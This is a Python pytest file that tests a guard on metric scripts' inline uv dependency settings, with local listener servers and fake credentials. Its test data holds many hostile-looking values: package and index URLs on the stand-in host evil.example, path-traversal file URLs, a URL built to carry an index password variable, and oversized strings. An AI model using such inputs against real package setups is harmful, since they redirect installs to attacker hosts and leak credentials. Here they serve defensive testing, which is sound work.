"""uv asks the addresses that the user has set; a script's own with the network, and no password."""

from __future__ import annotations

import contextlib
import functools
import os
import subprocess
import sys
import threading
import time
import tomllib
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import Run
from listener import listening
from metric_scripts import HEAD, linux, metric, wheel_with_a_start_file
from printed import outcomes as printed_outcomes
from uv import find_uv_bin

from harbor_metrics.errors import MetricFailure
from harbor_metrics.registries.local_packages import local_packages
from harbor_metrics.scripts.addresses import lead_elsewhere

REFERENCES = [
    *("x@../x-1-py3-none-any.whl", "x @ wheels/x-1-py3-none-any.whl", "x[y]@file:x.whl"),
    *("x @ file:/me/metrics/x.whl", "x @ file://localhost/me/metrics/x.whl"),
    *("x @ /me/metrics/x.whl", "x @ file:///me/metrics/x.whl#egg=x"),
    *("x @ C:\\\\x.whl", "x\\t@ x.whl", "x\\n@ x.whl", "./x.whl", "git+https://evil.example/x"),
]
LISTS = ("constraint", "override", "build-constraint", "exclude", "dev")
SOURCES = [
    *("{path = '../x.whl'}", "{path = '/etc/x.whl'}", "{path = 'x#y'}", "{workspace = true}"),
    *("{git = 'x'}", "{url = 'x.whl'}", "{path = 'x.whl', url = 'x'}", "{path = 'a\\b'}", "'x'"),
    *("{path = 'x.whl', subdirectory = '..'}", "{path = 'x.whl', later = 'x'}", "{path = 1}"),
]
PLACES = [
    *("./simple", "..", "/", "/opt/wheels", "", "https:/packages.mine.example"),
    *("https://packages.mine.example@evil.example/simple", "file:///me/metrics"),
    *("https://me:password@packages.mine.example/simple", "https://packages.mine.example"),
]
ELSEWHERE = [
    'dependencies = ["x @ https://evil.example/x-1-py3-none-any.whl"]',
    'dependencies = ["x @ HTTPS:evil.example/x-1-py3-none-any.whl"]',
    'dependencies = ["x @ git+ssh://git@evil.example/x"]',
    'dependencies = ["x @ file:///etc/x-1-py3-none-any.whl"]',
    'dependencies = ["x @ file:///me/metrics/../x-1-py3-none-any.whl"]',
    'dependencies = ["x @ file:///me/metrics/%2e%2e/x-1-py3-none-any.whl"]',
    'dependencies = ["x @ file://evil.example/me/metrics/x-1-py3-none-any.whl"]',
    'dependencies = ["x"]\n[[tool.uv.index]]\nname = "corp"\nurl = "https://evil.example/simple"',
    'dependencies = ["x"]\n[[tool.uv.index]]\nurl = "ht\\ttps:\\\\\\\\evil.example/simple"',
    'dependencies = ["x"]\n[[tool.uv.index]]\nurl = "./simple"',
    'dependencies = ["x"]\n[tool.uv]\nindex-url = "https://evil.example/simple"',
    'dependencies = ["x"]\n[tool.uv]\nextra-index-url = ["//evil.example/simple"]',
    'dependencies = ["x"]\n[tool.uv]\nfind-links = ["pages"]',
    'dependencies = ["x"]\n[tool.uv.sources]\nx = {url = "https://evil.example/x.whl"}',
    'dependencies = ["x"]\n[tool.uv.sources]\nx = {git = "git@evil.example:x"}',
    'dependencies = ["x"]\n[tool.uv.sources]\nx = [{marker = "1", git = "ssh://evil.example/x"}]',
    'dependencies = ["x"]\n[tool.uv]\nconstraint-dependencies = ["y @ http://evil.example/y.whl"]',
    'dependencies = ["x"]\n[tool.uv]\nhttp-proxy = "evil.example:80"',
    'dependencies = ["x"]\n[tool.uv]\nallow-insecure-host = ["evil.example"]',
    'dependencies = ["x"]\n[tool.uv.pip]\nindex-url = "x"',
    'dependencies = ["x"]\n[tool.uv]\ntorch-backend = "cpu"',
    # It asks the system's keyring, whatever uv is told of keyrings.
    'dependencies = ["x"]\n[tool.uv]\npreview = true',
    *(f'dependencies = ["{text}"]' for text in REFERENCES),
    *(f'[tool.uv]\n{name}-dependencies = ["{t}"]' for name in LISTS for t in REFERENCES[:3]),
    *(f'[tool.uv.extra-build-dependencies]\ny = ["{text}"]' for text in REFERENCES),
    *(f'[tool.uv.extra-build-dependencies]\ny = [{{requirement = "{t}"}}]' for t in REFERENCES),
    *(f'[[tool.uv.dependency-metadata]]\nname = "y"\nrequires-dist = ["{t}"]' for t in REFERENCES),
    *(f"[tool.uv.sources]\nx = {source}" for source in SOURCES),
    *(f"[tool.uv.sources]\nx = [{{index = 'mine'}}, {source}]" for source in SOURCES),
    *(f"[tool.uv]\nfind-links = ['{place}']" for place in PLACES),
    *(f"[tool.uv]\nindex-url = '{place}'" for place in PLACES),
    *(f"[[tool.uv.index]]\nurl = '{place}'" for place in PLACES),
    '[[tool.uv.index]]\nurl = "https://packages.mine.example/simple"\nauthenticate = "always"',
]
AT_HOME = [
    '[[tool.uv.index]]\nname = "mine"\nurl = "https://packages.mine.example/simple/"',
    '[tool.uv.sources]\nx = {path = "./x.whl", marker = "sys_platform == \'linux\'"}',
    '[tool.uv.sources]\nx = [{path = "wheels/x.whl", editable = false}, {index = "mine"}]',
    '[[tool.uv.dependency-metadata]]\nname = "y"\nversion = "1!2+a"\nrequires-dist = ["z>=1"]',
    '[tool.uv.extra-build-dependencies]\ny = ["z", {requirement = "a>=1", match-runtime = true}]',
    'dependencies = ["x @ file:///me/metrics/x-1-py3-none-any.whl#sha256=%s"]' % ("0" * 64),
    "dependencies = []",
    'dependencies = ["numpy>=1,<3; python_version>=\'3.8\'", "x[y]~=1.0"]',
    'dependencies = ["x"]\n[tool.uv.sources]\nx = {path = "x-1-py3-none-any.whl"}',
    'dependencies = ["x"]\n[tool.uv]\nexclude-newer = "2026-01-01T00:00:00Z"\nprerelease = "allow"',
    'dependencies = ["x"]\n[tool.uv.sources]\nx = {index = "mine"}',
    'dependencies = ["x"]\n[[tool.uv.index]]\nurl = "https://packages.mine.example/simple"',
    'dependencies = ["x"]\n[tool.other]\nurl = "https://evil.example"',
]
EAGER = """\
# /// script
# dependencies = ["eager"]
# [tool.uv.sources]
# eager = {path = "eager-1-py3-none-any.whl"}
# ///
"""
MINE = "https://me:password@packages.mine.example/simple"


def elsewhere(text: str, *, allow_network: bool = False) -> bool:
    wants = tomllib.loads(text)
    return lead_elsewhere(wants, {}, folder="/me/metrics", allow_network=allow_network)


@pytest.fixture(autouse=True)
def my_indexes(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in [name for name in os.environ if name.startswith("UV_INDEX")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("UV_INDEX", f"mine={MINE}")


@pytest.mark.parametrize("text", ELSEWHERE)
def test_an_address_of_the_scripts_needs_the_network(text: str) -> None:
    with pytest.raises(MetricFailure, match="--allow-network") as failure:
        elsewhere(text)
    assert failure.value.rule == "script-environment"
    assert elsewhere(text, allow_network=True)


@pytest.mark.parametrize("place", ["/opt/wheels", "file:///opt/wheels", "file:///opt/wheels/"])
def test_a_folder_for_packages_is_no_index_of_the_users(
    place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read as one it has pages, which may have come with the script and lead anywhere."""
    monkeypatch.setenv("UV_FIND_LINKS", "/opt/wheels,https://wheels.mine.example")
    assert not elsewhere(f"[tool.uv]\nfind-links = ['{place}']")
    assert not elsewhere("[[tool.uv.index]]\nurl = 'https://wheels.mine.example'")
    for block in (
        f"[[tool.uv.index]]\nurl = '{place}'",
        f"[tool.uv]\nindex-url = '{place}'",
        f"[tool.uv]\nextra-index-url = ['{place}']",
    ):
        with pytest.raises(MetricFailure, match="--allow-network"):
            elsewhere(block)
    monkeypatch.setenv("UV_DEFAULT_INDEX", place)
    assert not elsewhere(f"[[tool.uv.index]]\nurl = '{place}'")


@pytest.mark.parametrize("text", AT_HOME)
def test_what_the_user_has_set_needs_nothing(text: str) -> None:
    assert not elsewhere(text)


@pytest.mark.parametrize("text", ["https://evil.example/${UV_INDEX_CORP_PASSWORD}", "$HOME/x.whl"])
def test_no_variable_becomes_part_of_an_address(text: str) -> None:
    for allow_network in (False, True):
        with pytest.raises(MetricFailure, match="variable"):
            elsewhere(f'dependencies = ["x @ {text}"]', allow_network=allow_network)


@pytest.mark.parametrize(
    "text",
    ["x" + " " * 1_000_000, "https://" + "/" * 1_000_000 + "x", "x @ file://" + "/a" * 500_000],
    ids=("spaces", "slashes", "folders"),
)
def test_a_block_is_read_in_time(text: str) -> None:
    block = f'dependencies = ["{text}"]\n[tool.uv]\nfind-links = ["{text}"]\n'
    started = time.monotonic()
    assert elsewhere(f"{block}[tool.uv.sources]\nx = {{path = '{text}'}}", allow_network=True)
    with contextlib.suppress(MetricFailure):  # what is too long for a path
        local_packages(tomllib.loads(block), {}, "/me/metrics")
    assert time.monotonic() - started < 5


def test_a_password_in_a_block_is_not_printed() -> None:
    with pytest.raises(MetricFailure) as failure:
        elsewhere('dependencies = ["x @ https://me:hunter2@evil.example/x.whl"]')
    assert "hunter2" not in str(failure.value)
    assert "evil.example" in str(failure.value)


@linux
@pytest.mark.usefixtures("own_caches")
def test_nobody_is_asked_who_was_not_set_and_nobody_is_told_a_password(
    cli: Run, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    home = tmp_path_factory.mktemp("home")
    (home / ".netrc").write_text("machine 127.0.0.1 login me password NETRC\n")
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    with listening() as (port, heard):
        env = {
            "HOME": str(home),
            "UV_INDEX_CORP_USERNAME": "me",
            "UV_INDEX_CORP_PASSWORD": "INDEX",
            "UV_INDEX": "",
            "UV_OFFLINE": "0",
            "UV_HTTP_RETRIES": "0",
            "NO_PROXY": "127.0.0.1",
        }
        block = '# /// script\n# dependencies = ["harborless"]\n# [[tool.uv.index]]\n'
        block += f'# name = "corp"\n# url = "http://127.0.0.1:{port}/simple"\n# ///\n'
        (tmp_path / "m.py").write_text(f"{block}{HEAD}answer(x=1)")
        command = ("compute", "r.jsonl", "--metric", metric("m.py"), "--format", "json")
        one = printed_outcomes(cli(*command, env=env))[-1]
        assert "--allow-network" in one["error"]["message"]
        assert heard == []
        wheel_with_a_start_file(tmp_path, "", wants=f"Requires-Dist: x @ http://127.0.0.1:{port}\n")
        (tmp_path / "m.py").write_text(f"{EAGER}{HEAD}answer(x=1)")
        one = printed_outcomes(cli(*command, env=env))[-1]
        assert "eager-1-py3-none-any.whl depends on" in one["error"]["message"]
        assert heard == []
        (tmp_path / "m.py").write_text(f"{block}{HEAD}answer(x=1)")
        more = ("--allow-network", "--script-timeout", "15")
        one = printed_outcomes(cli(*command, *more, env=env))[-1]
        assert one["status"] == "failed"
        assert heard, one["error"]["message"]
        assert not any(b"uthorization" in request for request in heard)


@linux
@pytest.mark.usefixtures("own_caches")
def test_the_files_of_a_lock_come_from_the_users_index(
    cli: Run, tmp_path: Path, tmp_path_factory: pytest.TempPathFactory
) -> None:
    served = tmp_path_factory.mktemp("served")
    (served / "simple" / "eager").mkdir(parents=True)
    wheel_with_a_start_file(served / "simple" / "eager", "")
    (tmp_path / "r.jsonl").write_text('{"reward": 1.0}\n')
    block = '# /// script\n# dependencies = ["eager"]\n# ///\n'
    (tmp_path / "m.py").write_text(f"{block}{HEAD}import eager\nanswer(x=1)")
    handler = functools.partial(SimpleHTTPRequestHandler, directory=str(served))
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server, listening() as (port, heard):
        threading.Thread(target=server.serve_forever).start()
        index = f"http://127.0.0.1:{server.server_port}"
        env = {"UV_DEFAULT_INDEX": f"{index}/simple", "UV_INDEX": "", "UV_OFFLINE": "0"}
        env |= {"NO_PROXY": "127.0.0.1", "UV_HTTP_RETRIES": "0"}
        lock = [find_uv_bin(), "lock", "-q", "--python", sys.executable, "--script", "m.py"]
        try:
            subprocess.run(lock, cwd=tmp_path, env=os.environ | env, check=True)
            path = tmp_path / "m.py.lock"
            wheel = f"{index}/simple/eager/"
            assert wheel in path.read_text()
            path.write_text(path.read_text().replace(wheel, f"http://127.0.0.1:{port}/"))
            done = cli(
                "compute", "r.jsonl", "--metric", metric("m.py"), "--format", "json", env=env
            )
        finally:
            server.shutdown()
    one = printed_outcomes(done)[-1]
    assert one["values"] == {"x": 1}, one["error"]
    assert heard == []


@linux
@pytest.mark.usefixtures("own_caches")
@pytest.mark.parametrize("more", [(), ("--allow-build",)])
def test_a_folder_of_the_users_has_packages(cli: Run, tmp_path: Path, more: tuple[str]) -> None:
    (tmp_path / "links").mkdir()
    (tmp_path / "work").mkdir()
    wheel_with_a_start_file(tmp_path / "links", "")
    (tmp_path / "work" / "r.jsonl").write_text('{"reward": 1.0}\n')
    block = '# /// script\n# dependencies = ["eager"]\n# ///\n'
    (tmp_path / "work" / "m.py").write_text(f"{block}{HEAD}import eager\nanswer(x=1)")
    env = {"UV_FIND_LINKS": "../links", "UV_OFFLINE": "1", "UV_INDEX": ""}
    command = ("compute", "r.jsonl", "--metric", metric("m.py"), "--format", "json", *more)
    one = printed_outcomes(cli(*command, cwd=tmp_path / "work", env=env))[-1]
    assert one["values"] == {"x": 1}, one["error"]
